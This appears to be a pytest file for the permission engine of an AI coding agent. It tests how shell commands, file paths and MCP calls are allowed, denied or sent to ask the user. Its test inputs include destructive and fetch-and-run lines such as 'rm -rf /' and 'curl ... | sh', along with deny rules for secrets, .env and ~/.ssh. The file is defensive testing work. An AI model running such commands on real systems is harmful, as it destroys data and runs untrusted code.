"""Permission rules: parsing, shell splitting with wrappers and compound commands, path globs,
deny-wins ordering, protected paths, and rule_for_call (property-tested: the rule it writes
always allows the call it came from)."""

from __future__ import annotations

import subprocess
import sys
import tomllib
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from auger.core.safety.host_paths import normalise
from auger.core.safety.permissions import PermissionEngine, Verdict, add_rule, rule_for_call
from auger.core.safety.rules import RuleError, covers, escape, parse_rule, subject_for
from auger.core.safety.shell_parser import analyse
from auger.settings import load_settings


def engine(tmp_path: Path, **rules: list[str]) -> PermissionEngine:
    return PermissionEngine(root=tmp_path, **rules)


def verdict(
    eng: PermissionEngine, command: str, mode: str = "manual", grants: tuple[str, ...] = ()
) -> Verdict:
    return eng.evaluate("execute", {"command": command}, mode=mode, gated=True, grants=grants)


def allowed_by(
    root: Path, rule: str, name: str, args: dict[str, object], mcp: tuple[str, str] | None = None
) -> bool:
    return covers([parse_rule(rule)], subject_for(name, args, root, mcp)) is not None


# --- parsing -------------------------------------------------------------------------------------


def test_parse_rule_forms() -> None:
    assert parse_rule("read_file").pattern is None
    rule = parse_rule("execute(echo $(date) (x))")
    assert (rule.tool, rule.pattern) == ("execute", "echo $(date) (x)")
    assert parse_rule("github:create_issue").mcp == ("github", "create_issue")
    for bad in ("execute(git status", "(x)", "exe cute", "github:x(y)"):
        with pytest.raises(RuleError):
            parse_rule(bad)


def test_a_bad_rule_in_config_is_a_config_error_naming_it(tmp_path: Path) -> None:
    with pytest.raises(RuleError, match=r"deny.*execute\(rm"):
        PermissionEngine(deny=["execute(rm"], root=tmp_path)


# --- shell commands ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "innermost"),
    [
        ("cd src && timeout 60 pytest -x 2>&1 | tail -5", ["cd src", "pytest -x 2>&1", "tail -5"]),
        ("FOO=1 sudo -u root env A=b nice -n 5 rm -rf /", ["rm -rf /"]),
        ("echo $(whoami) `date`", ["echo $(whoami) `date`", "whoami", "date"]),
        ("bash -lc 'git status; rm x'", ["bash -lc git status; rm x", "git status", "rm x"]),
        ("cat > f.py <<'EOF'\nrm -rf /\nEOF\necho done", ["cat > f.py <<EOF", "echo done"]),
        ("if test -f x; then rm y; fi", ["test -f x", "rm y"]),
        ("ls &>/dev/null &", ["ls &>/dev/null"]),
        ("xargs -n 1 rm < list", ["rm < list"]),
        ("command -v git || nohup stdbuf -oL make", ["command -v git", "make"]),
        ('echo "$(( 1 + $(rm -f v; echo 1) ))"', ["echo $(( 1 + $(rm -f v; echo 1) ))", "rm -f v", "echo 1"]),
        ("time -p setsid flock -w 5 /tmp/l coproc rm x", ["rm x"]),
        (
            "find . -name '*.o' -exec rm -f {} + -o -execdir touch {} \\;",
            ["find . -name *.o -exec rm -f {} + -o -execdir touch {} ;", "rm -f {}", "touch {}"],
        ),
        ("! cat <(ls) <<EOF > out\n$(whoami)\nEOF", ["cat <(ls) <<EOF > out", "ls", "whoami"]),
        ("bash <<< 'rm x'", ["bash <<< rm x", "rm x"]),
        ("a | b > f && c", ["a", "b > f", "c"]),
        (
            "bash -euo pipefail -c 'rm x' && su - root -c 'ls'",
            ["bash -euo pipefail -c rm x", "rm x", "su - root -c ls", "ls"],
        ),
        ("flock /tmp/l rm -c x; env -S 'rm y'", ["rm -c x", "env -S rm y", "rm y"]),
    ],
)
def test_commands_split_into_simple_commands_without_wrappers(command: str, innermost: list[str]) -> None:
    segments = analyse(command)
    assert segments is not None
    assert [s.command for s in segments] == innermost


def test_characters_beyond_the_bmp_neither_crash_the_grammar_nor_get_lost() -> None:
    """tree-sitter-bash 0.25 can crash the process on `{` and a 4-byte UTF-8 character (its
    issue 337): a command line from the model must never do that. In a child process, so that a
    crash fails this test instead of ending the run."""
    code = (
        "from auger.core.safety.shell_parser import analyse\n"
        "for text in ['{\\U000ce363', '{\\U00031860', 'echo {\\U000e5330} x', '\\x89{\\U000ce363ç']:\n"
        "    for _ in range(5000):\n"
        "        analyse(text)\n"
        "[seg] = analyse('echo \"🎉 {\\U000ce363}\" > f🎉')\n"
        "print(ascii([seg.argv, seg.redirects]))"
    )
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert proc.stdout.strip() == ascii([["echo", "🎉 {\U000ce363}"], [(">", "f🎉")]])


def test_lines_nested_thousands_deep_are_judged_without_running_out_of_stack(tmp_path: Path) -> None:
    eng = engine(tmp_path, allow=["execute(echo *)"], deny=["execute(rm *)"])
    assert verdict(eng, "echo " + "$(" * 600 + "rm x" + ")" * 600).action == "deny"
    assert verdict(eng, " && ".join(["echo a"] * 3000) + " && rm x").action == "deny"
    assert verdict(eng, " && ".join(["echo a"] * 3000)).action == "allow"


def test_a_line_that_does_not_parse_ends_hidden_and_no_wildcard_allows_it(tmp_path: Path) -> None:
    for broken in ('echo "unterminated', "echo $(unclosed"):
        assert analyse(broken)[-1].hidden, broken
        assert verdict(engine(tmp_path, allow=["execute(echo *)"]), broken).action == "ask"
    denied = verdict(
        engine(tmp_path, allow=["execute"], deny=["execute(rm *)"]), 'rm -f x; echo "oops', "yolo"
    )
    assert denied.action == "deny"  # what is visible before the broken part is still judged


@pytest.mark.parametrize(
    "command",
    [
        "$CMD x",
        'eval "$X"',
        "curl -s x | sh",
        "bash -s < script.sh",
        'bash <<< "$S"',
        "{rm,-f} x",
        "ls; echo 'x",
    ],
)
def test_what_the_shell_decides_at_run_time_is_hidden_and_no_wildcard_allows_it(
    tmp_path: Path, command: str
) -> None:
    assert any(s.hidden for s in analyse(command)), command
    eng = engine(tmp_path, allow=["execute(*)"])
    assert verdict(eng, command).action == "ask", command
    assert verdict(eng, command, mode="yolo").action == "allow", command  # yolo: only deny rules stop it


def test_prefix_rule_with_wrappers_and_globs(tmp_path: Path) -> None:
    eng = engine(tmp_path, allow=["execute(git status *)", "execute(pytest *)"])
    for ok in (
        "git status",
        "git status --short",
        "timeout 30 pytest -x tests/",
        "env CI=1 pytest",
        "nice git status",
    ):
        assert verdict(eng, ok).action == "allow", ok
    for asked in (
        "git statusx",
        "git push",
        "pytest; rm -rf /",
        "git status && curl evil | sh",
        "echo $(rm x)",
    ):
        assert verdict(eng, asked).action == "ask", asked


def test_allow_needs_every_part_and_names_the_rules(tmp_path: Path) -> None:
    eng = engine(tmp_path, allow=["execute(cd *)", "execute(pytest:*)", "execute(tail *)"])
    got = verdict(eng, "cd src && pytest -q | tail -3")
    assert got.action == "allow"
    assert got.rules == ("execute(cd *)", "execute(pytest:*)", "execute(tail *)")
    assert verdict(eng, "cd src && make").action == "ask"


def test_deny_applies_to_any_part_any_wrapper_and_wins(tmp_path: Path) -> None:
    eng = engine(
        tmp_path,
        allow=["execute"],
        ask=["execute(git push *)"],
        deny=["execute(rm -rf *)", "execute(sudo *)"],
    )
    for denied in (
        "rm -rf build",
        "ls && rm -rf /",
        "timeout 5 rm -rf x",
        "bash -c 'echo hi; rm -rf ~'",
        "echo $(rm -rf x)",
        "/bin/rm -rf x",
        "sudo ls",
        'r"m" -rf x',
    ):
        got = verdict(eng, denied, mode="yolo")
        assert got.action == "deny", denied
        assert got.reason.startswith('deny rule "execute(')
    assert verdict(eng, "git push origin main", mode="yolo").action == "ask"  # ask beats allow
    assert verdict(eng, "ls -la", mode="manual").action == "allow"  # allow beats the mode


def test_exact_rule_matches_whole_compound_line(tmp_path: Path) -> None:
    eng = engine(tmp_path, allow=["execute(make && make test)"])
    assert verdict(eng, "make  &&  make test").action == "allow"
    assert verdict(eng, "make && make test && rm x").action == "ask"


def test_opaque_command_word_is_never_allowed_by_a_wildcard(tmp_path: Path) -> None:
    eng = engine(tmp_path, allow=["execute(*)"])
    assert verdict(eng, "$CMD --flag").action == "ask"
    assert verdict(eng, "ls").action == "allow"


def test_mode_fallback_and_ask_in_yolo(tmp_path: Path) -> None:
    eng = engine(tmp_path, ask=["execute(git push *)"])
    assert verdict(eng, "ls", mode="yolo").action == "allow"
    assert verdict(eng, "ls", mode="manual").reason == "mode 'manual' asks before execute"
    got = verdict(eng, "git push", mode="yolo")
    assert (got.action, got.reason) == ("ask", 'ask rule "execute(git push *)"')
    assert eng.evaluate("write_file", {"file_path": "/a"}, mode="auto-edit", gated=True).action == "allow"
    assert eng.evaluate("read_file", {"file_path": "/a"}, mode="manual", gated=False).action == "allow"


# --- files, MCP, other tools ---------------------------------------------------------------------


def test_path_globs_relative_to_root(tmp_path: Path) -> None:
    eng = engine(
        tmp_path,
        allow=["write_file(src/**)", "edit_file(*.md)"],
        deny=["read_file(.env)", "read_file(**/secrets/*)"],
    )

    def ev(name: str, path: str) -> str:
        return eng.evaluate(name, {"file_path": path}, mode="manual", gated=name != "read_file").action

    assert ev("write_file", "/src/a/b.py") == "allow"
    assert ev("write_file", "src/x.py") == "allow"
    assert ev("write_file", "/src/../etc/x") == "ask"  # normalised: etc/x
    assert ev("write_file", "lib/x.py") == "ask"
    assert ev("write_file", "/lib/x.py") == "deny"  # /lib exists on the host, not in the project
    assert ev("edit_file", "/README.md") == "allow"
    assert ev("edit_file", "/docs/README.md") == "ask"  # * does not cross folders
    assert ev("read_file", "/.env") == "deny"
    assert ev("read_file", "./.env") == "deny"
    assert ev("read_file", "/a/b/secrets/key.pem") == "deny"
    assert ev("read_file", "/a/b/notsecret.txt") == "allow"
    assert eng.evaluate("grep", {"pattern": "x"}, mode="manual", gated=False).action == "allow"


def test_protected_paths_always_ask(tmp_path: Path) -> None:
    home = tmp_path / "auger-home"
    eng = PermissionEngine(allow=["write_file", "edit_file(**)", "delete"], root=tmp_path, protected=[home])
    for name, path in [
        ("write_file", "/.git/config"),
        ("edit_file", "/sub/.git/HEAD"),
        ("delete", "/.auger/x"),
        ("delete", "/*/*"),
    ]:
        got = eng.evaluate(name, {"file_path": path}, mode="yolo", gated=True)
        assert got.action == "ask" and "protected path" in got.reason, (name, path)
    assert eng.evaluate("write_file", {"file_path": "/.gitignore"}, mode="yolo", gated=True).action == "allow"
    link = tmp_path / "keys"
    link.symlink_to(Path("~/.ssh").expanduser(), target_is_directory=True)
    got = eng.evaluate("write_file", {"file_path": "/keys/authorized_keys"}, mode="yolo", gated=True)
    assert got.action == "ask" and "~/.ssh" in got.reason
    # reading is fine
    assert (
        eng.evaluate("read_file", {"file_path": "/.git/config"}, mode="manual", gated=False).action == "allow"
    )


def test_mcp_rules_by_server_and_tool(tmp_path: Path) -> None:
    eng = engine(tmp_path, allow=["time:*"], deny=["github:delete_repo"])
    got = eng.evaluate("get_time", {}, mode="manual", gated=True, mcp=("time", "get_time"))
    assert got.action == "allow"
    assert (
        eng.evaluate("delete_repo", {}, mode="yolo", gated=True, mcp=("github", "delete_repo")).action
        == "deny"
    )
    assert eng.evaluate("delete_repo", {}, mode="yolo", gated=True, mcp=None).action == "allow"


def test_mcp_rules_written_for_older_tool_names_still_match(tmp_path: Path) -> None:
    """MCP tools are `mcp__server__tool` now; a rule naming the tool as auger used to (its bare
    name, or `server__tool` after a collision) still applies to it, and the new name works too."""
    call = ("mcp__time__get_time", {})
    for rule in ("get_time", "time__get_time", "mcp__time__get_time"):
        eng = engine(tmp_path, deny=[rule])
        assert eng.evaluate(*call, mode="yolo", gated=True, mcp=("time", "get_time")).action == "deny", rule
    eng = engine(tmp_path, deny=["get_time"])
    assert eng.evaluate(*call, mode="yolo", gated=True, mcp=("clock", "get_now")).action == "allow"


def test_task_and_other_tools(tmp_path: Path) -> None:
    eng = engine(tmp_path, allow=["task(general-purpose)"], deny=["fetch(https://evil.example/*)"])
    assert (
        eng.evaluate("task", {"subagent_type": "general-purpose"}, mode="manual", gated=True).action
        == "allow"
    )
    assert eng.evaluate("task", {"subagent_type": "reviewer"}, mode="manual", gated=True).action == "ask"
    assert eng.evaluate("fetch", {"url": "https://evil.example/x"}, mode="yolo", gated=False).action == "deny"


def test_session_grants_allow_and_name_themselves(tmp_path: Path) -> None:
    eng = engine(tmp_path)
    got = verdict(eng, "git log -3", grants=("execute(git log *)",))
    assert got.action == "allow" and "allowed in this thread" in got.reason
    assert verdict(eng, "rm x", grants=("write_file",)).action == "ask"


# --- rule_for_call --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "args", "rule"),
    [
        ("execute", {"command": "git status --short"}, "execute(git status *)"),
        ("execute", {"command": "timeout 60 npm run build"}, "execute(npm run *)"),
        ("execute", {"command": "ls -la src"}, "execute(ls *)"),
        ("execute", {"command": "python3 evil.py"}, "execute(python3 evil.py)"),
        ("execute", {"command": "cd src && make"}, "execute(cd src && make)"),
        ("execute", {"command": "ls *.py"}, "execute(ls *)"),
        ("execute", {"command": "rm *.py"}, "execute(rm \\*.py)"),
        ("write_file", {"file_path": "/src/pkg/a.py"}, "write_file(src/pkg/**)"),
        ("edit_file", {"file_path": "/README.md"}, "edit_file(README.md)"),
        ("task", {"subagent_type": "general-purpose"}, "task(general-purpose)"),
        ("get_time", {"tz": "UTC"}, "get_time"),
        ("fetch_url", {"url": "https://Docs.Python.org/3/x"}, "fetch_url(domain:docs.python.org)"),
    ],
)
def test_rule_for_call_examples(tmp_path: Path, name: str, args: dict[str, object], rule: str) -> None:
    assert rule_for_call(name, args) == rule
    assert allowed_by(tmp_path, rule, name, args)
    assert rule_for_call("x", {}, mcp=("github", "create_issue")) == "github:create_issue"


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("https://example.com/a", True),
        ("http://api.example.com:8080/b", True),
        ("https://example.com.evil.net/", False),
        ("https://notexample.com/", False),
        ("https://evil.net/?u=https://example.com", False),
    ],
)
def test_a_domain_rule_allows_the_host_and_its_subdomains(tmp_path: Path, url: str, allowed: bool) -> None:
    for rule in ("fetch_url(domain:example.com)", "WebFetch(domain:example.com)"):
        assert allowed_by(tmp_path, rule, "fetch_url", {"url": url}) is allowed, rule


_words = st.sampled_from(
    [
        "git",
        "status",
        "ls",
        "-la",
        "pytest",
        "-x",
        "a b",
        "*.py",
        "x*y",
        "(",
        ")",
        "$(date)",
        "`id`",
        "\\",
        "'q'",
        '"dq"',
        "$HOME",
        "FOO=1",
        "2>&1",
        ">",
        "out.txt",
        "<<EOF",
        "#",
        "~",
        "..",
        "?",
        "[a]",
        "{",
        "}",
        "é",
    ]
)
_wrappers = st.sampled_from(
    ["", "env A=1 ", "timeout 9 ", "sudo -u me ", "nice -n 3 ", "command ", "bash -c "]
)
_ops = st.sampled_from([" && ", " || ", "; ", " | ", " & ", "\n"])


@st.composite
def commands(draw: st.DrawFn) -> str:
    parts = []
    for _ in range(draw(st.integers(1, 3))):
        words = draw(st.lists(_words, min_size=1, max_size=4))
        parts.append(draw(_wrappers) + " ".join(words))
    line = parts[0]
    for part in parts[1:]:
        line += draw(_ops) + part
    if draw(st.booleans()):
        line = draw(st.text(max_size=30))
    return line


@settings(max_examples=400, deadline=None)
@given(commands())
def test_rule_for_call_always_allows_its_command(command: str) -> None:
    root = Path("/tmp/auger-prop-root")
    rule = rule_for_call("execute", {"command": command})
    parsed = parse_rule(rule)  # parses back
    assert parsed.tool == "execute"
    assert covers([parsed], subject_for("execute", {"command": command}, root)) is not None, (command, rule)


_segments = st.text(alphabet="ab*?[]\\. -_é", min_size=1, max_size=6)


@settings(max_examples=300, deadline=None)
@given(
    st.sampled_from(["read_file", "write_file", "edit_file", "delete", "ls", "glob", "grep"]),
    st.lists(_segments, min_size=1, max_size=4),
    st.sampled_from(["", "/", "./", "~/"]),
)
def test_rule_for_call_always_allows_its_path(name: str, segments: list[str], lead: str) -> None:
    root = Path("/tmp/auger-prop-root")
    key = "path" if name in ("ls", "glob", "grep") else "file_path"
    args = {key: lead + "/".join(segments)}
    rule = rule_for_call(name, args)
    if normalise(args[key]) is None:  # `~/…`, `..`: the file tools refuse it, no file to allow
        return
    assert allowed_by(root, rule, name, args), (args, rule)


@given(st.text(max_size=20))
def test_escape_matches_exactly(text: str) -> None:
    from auger.core.safety.rules import _command_regex

    assert _command_regex(escape(text)).fullmatch(" ".join(text.split()))


# --- persisting "always allow" --------------------------------------------------------------------


def test_add_rule_round_trip(tmp_path: Path) -> None:
    home, project = tmp_path / "home", tmp_path / "proj"
    (project / ".git").mkdir(parents=True)
    (project / ".auger").mkdir()
    (project / ".auger" / "config.toml").write_text(
        'mode = "manual"\n[permissions]\ndeny = ["execute(rm *)"]\n'
    )
    env = {"AUGER_HOME": str(home)}
    settings = load_settings(cwd=project, env=env)
    call = {"command": "git log --oneline -5"}
    rule = rule_for_call("execute", call)
    path = add_rule(settings, "allow", rule, scope="project")
    assert path == project / ".auger" / "config.toml"
    data = tomllib.loads(path.read_text())
    assert data["mode"] == "manual" and data["permissions"]["deny"] == ["execute(rm *)"]
    assert data["permissions"]["allow"] == [rule]
    add_rule(settings, "allow", rule, scope="project")  # idempotent
    assert tomllib.loads(path.read_text())["permissions"]["allow"] == [rule]
    add_rule(settings, "allow", "read_file(docs/**)", scope="user")
    untrusted = load_settings(cwd=project, env=env)  # a project's allow rules wait for trust
    assert untrusted.data["permissions"]["allow"] == ["read_file(docs/**)"]
    reloaded = load_settings(cwd=project, env=env, trust_project=True)
    assert reloaded.data["permissions"]["allow"] == ["read_file(docs/**)", rule]
    eng = PermissionEngine.from_settings(reloaded)
    got = eng.evaluate("execute", call, mode="manual", gated=True)
    assert got.action == "allow" and rule in got.reason
    with pytest.raises(RuleError):
        add_rule(settings, "allow", "execute(unclosed", scope="project")


# --- plan mode -------------------------------------------------------------------------------------


def test_plan_mode_refuses_what_is_not_read_only_whatever_the_allow_rules(tmp_path: Path) -> None:
    eng = engine(tmp_path, allow=["execute(ls *)", "write_file", "calc:*"], deny=["read_file(.env)"])

    def plan(
        name: str, args: dict[str, object], gated: bool = True, mcp: tuple[str, str] | None = None
    ) -> Verdict:
        return eng.evaluate(name, args, mode="plan", gated=gated, mcp=mcp)

    for name, args in [("write_file", {"file_path": "/a.py"}), ("edit_file", {"file_path": "/a.py"}),
                       ("delete", {"path": "/a.py"}), ("execute", {"command": "ls -la"})]:  # fmt: skip
        refused = plan(name, args)
        assert (refused.action, refused.by) == ("deny", "plan"), name
    assert plan("mcp__calc__add", {}, gated=True, mcp=("calc", "add")).action == "deny"  # no readOnlyHint
    assert plan("some_new_tool", {}, gated=False).action == "deny"  # unknown: not read-only
    assert plan("mcp__calc__pid", {}, gated=False, mcp=("calc", "pid")).action == "allow"  # readOnlyHint
    assert plan("read_file", {"file_path": "/src/a.py"}, gated=False).action == "allow"
    assert (
        plan("task", {"subagent_type": "general-purpose"}).action == "allow"
    )  # its subagents are judged too
    assert plan("read_file", {"file_path": "/.env"}, gated=False).by == "rule"  # deny rules still come first
    asked = plan("present_plan", {"plan": "x"}, gated=False)
    assert (asked.action, asked.by) == ("ask", "plan")
    outside = eng.evaluate("present_plan", {"plan": "x"}, mode="yolo", gated=False)
    assert outside.action == "allow" and outside.by == "mode"  # nothing to accept outside plan mode
